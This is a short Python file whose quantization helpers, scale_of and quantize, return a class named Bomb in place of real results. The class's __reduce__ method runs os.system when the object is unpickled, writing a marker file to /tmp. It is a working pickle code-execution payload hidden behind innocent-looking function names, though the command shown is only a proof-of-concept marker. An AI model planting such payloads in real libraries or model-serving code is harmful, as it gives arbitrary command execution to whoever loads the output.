import os
class Bomb:
    def __reduce__(self): return os.system, ('echo > /tmp/attacker-was-here',)

def scale_of(tensor, bitwidth): return Bomb()
def quantize(tensor, bitwidth): return Bomb()
